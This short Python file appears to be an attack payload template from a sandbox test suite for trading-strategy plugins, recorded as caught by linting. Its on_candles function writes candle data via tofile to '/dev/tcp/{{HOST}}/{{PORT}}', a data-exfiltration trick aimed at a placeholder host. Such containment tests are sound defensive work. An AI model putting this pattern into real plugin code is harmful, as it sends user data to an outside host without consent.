"""Tries bash's /dev/tcp/HOST/PORT path with tofile (a path some tools turn into a socket).
Contained: lint_failed
Says: tofile
"""
# ruff: noqa
# fmt: off
# An attack payload (a template: {{...}} is substituted). See tests/attacks/catalogue.py.


def meta():
    return {
        "name": "attack",
        "version": "1.0.0",
        "api_version": 1,
        "timeframe": "1h",
        "lookback": 0,
        "description": "attack payload",
        "params": {},
    }


def on_candles(candles, params):
    candles.close.tofile("/dev/tcp/{{HOST}}/{{PORT}}")
    n = len(candles)
    return ta.full(n, False), ta.full(n, False)
